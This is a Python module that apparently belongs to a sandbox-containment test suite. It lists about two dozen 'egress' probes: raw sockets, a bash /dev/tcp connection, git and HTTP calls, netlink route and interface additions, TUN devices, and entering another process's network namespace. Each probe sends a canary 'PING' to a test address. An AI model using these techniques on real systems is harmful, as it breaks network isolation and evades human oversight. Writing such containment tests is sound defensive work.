"""Reaching another host, a service of this one, or the network's own interfaces."""

from __future__ import annotations

from security.attack import Attack, Canary, Deed, Service, received, says
from security.deeds import Python, Shell
from security.world import ADDRESS

_SEND = "s.sendall(b'PING'); print(s.recv(999))"
_SENDTO = "s.settimeout(1); s.sendto(b'PING', {}); print(s.recv(999))"


def _attack(name: str, deed: Deed, service: Service = "person", canary: Canary | None = None) -> Attack:
    return Attack(name, "egress", deed, canary or received(), service)


def _datagram(family: str, address: str) -> Python:
    return Python(f"s = socket.socket(socket.{family}, socket.SOCK_DGRAM); " + _SENDTO.format(address))


_ICMP = f"""
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.settimeout(1)
packet = lambda sum: struct.pack("!BBHHH", 8, 0, sum, 7, 7) + b"PING"
words = sum(struct.unpack("!6H", packet(0)))
s.sendto(packet(~((words & 0xFFFF) + (words >> 16)) & 0xFFFF), ("{ADDRESS}", 0))
while True:
    answer = s.recv(999)
    if answer[20] == 0: sys.exit("PONG " + repr(answer))
"""
_FRAME = """
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.bind(("lo", 0))
print("SENT", s.send(b"\\0" * 12 + b"\\x88\\xb5" + b"PING" * 16))
"""
# RTM_NEWROUTE to 198.51.100.0/24 by the first interface.
_ROUTE = """
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
attributes = struct.pack("HH4s", 8, 1, socket.inet_aton("198.51.100.0")) + struct.pack("HHI", 8, 4, 1)
body = struct.pack("BBBBBBBBI", 2, 24, 0, 0, 254, 3, 253, 1, 0) + attributes
s.send(struct.pack("IHHII", 16 + len(body), 24, 0x605, 1, 0) + body)
answer = s.recv(999)
print("ADDED" if struct.unpack("i", answer[16:20])[0] == 0 else "REFUSED")
"""
_ADDRESS = """
import array, fcntl
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
told = struct.pack("16sHH4s8x", b"lo:9", 2, 0, socket.inet_aton("10.1.1.1"))
fcntl.ioctl(s, 0x8916, array.array("B", told))
print("ADDED")
"""
_TUN = """
import array, fcntl
tun = os.open("/dev/net/tun", os.O_RDWR)
fcntl.ioctl(tun, 0x400454CA, array.array("B", struct.pack("16sH22x", b"way-out", 0x1001)))
print("ADDED")
"""
_OTHER_NAMESPACE = """
for pid in [1, *others()]:
    try: there = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
    except OSError: continue
    if libc.setns(there, 0x40000000) == 0: print("ENTERED")
"""
_SCM = """
ours, theirs = socket.socketpair()
if os.fork() == 0:
    s = socket.create_connection(("%s", 8080), 2)
    socket.send_fds(theirs, [b"x"], [s.fileno()])
    os._exit(0)
theirs.close()
_, (fd,), _, _ = socket.recv_fds(ours, 1, 1)
os.write(fd, b"PING")
os.wait()
"""

ATTACKS = (
    _attack("tcp", Python(f"s = socket.create_connection(('{ADDRESS}', 8080), 2); {_SEND}")),
    _attack("tcp-of-the-shell", Shell(f"exec 3<>/dev/tcp/{ADDRESS}/8080 && echo PING >&3 && head -1 <&3")),
    _attack(
        "tcp-to-the-loopback-of-the-machine", Python(f"s = socket.create_connection(('127.0.0.1', 8080), 2); {_SEND}")
    ),
    _attack("tcp-by-ipv6", Python(f"s = socket.create_connection(('::1', 8080), 2); {_SEND}")),
    _attack("tcp-by-mapped-ipv6", Python(f"s = socket.create_connection(('::ffff:{ADDRESS}', 8080), 2); {_SEND}")),
    _attack("tcp-to-no-address", Python(f"s = socket.create_connection(('0.0.0.0', 8080), 2); {_SEND}")),
    _attack("udp", _datagram("AF_INET", f"('{ADDRESS}', 8125)")),
    _attack(
        "udp-to-all",
        Python(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 6, 1); "
            + _SENDTO.format("('127.255.255.255', 8125)")
        ),
    ),
    _attack("dns", _datagram("AF_INET", f"('{ADDRESS}', 53)")),
    _attack("dns-by-ipv6", _datagram("AF_INET6", "('::1', 53)")),
    _attack("icmp", Python(_ICMP), "root", says("PONG")),
    _attack("raw-frame", Python(_FRAME), "root", says("SENT")),
    _attack(
        "raw-ip",
        Python(
            "s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253)\n"
            f"print('SENT', s.sendto(b'PING', ('{ADDRESS}', 0)))"
        ),
        "root",
        says("SENT"),
    ),
    _attack(
        "http-by-python",
        Python(f"import urllib.request; print(urllib.request.urlopen('http://{ADDRESS}:8080/PING', timeout=2).read())"),
    ),
    _attack(
        "http-by-the-proxy-of-the-environment",
        Python("import urllib.request; print(urllib.request.urlopen('http://example.org/PING', timeout=2).read())"),
    ),
    _attack("git-push", Shell(f"timeout 3 git push http://{ADDRESS}:8080/PING HEAD 2>&1")),
    _attack("git-protocol", Shell(f"timeout 3 git ls-remote git://{ADDRESS}:8080/PING 2>&1")),
    _attack("abstract-socket", Python(f"s = socket.socket(socket.AF_UNIX); s.connect('\\0nightcrew-canary'); {_SEND}")),
    _attack("display", Python(f"s = socket.socket(socket.AF_UNIX); s.connect('/tmp/.X11-unix/X0'); {_SEND}")),
    _attack("connected-socket-that-is-handed-over", Python(_SCM % ADDRESS)),
    _attack("vsock", Python("socket.socket(40, socket.SOCK_STREAM); print('OPEN')"), canary=says("OPEN")),
    _attack("new-route", Python(_ROUTE), "root", says("ADDED")),
    _attack("new-address", Python(_ADDRESS), "root", says("ADDED")),
    _attack("new-interface", Python(_TUN), "root", says("ADDED")),
    _attack("namespace-of-another-process", Python(_OTHER_NAMESPACE), "root", says("ENTERED")),
)
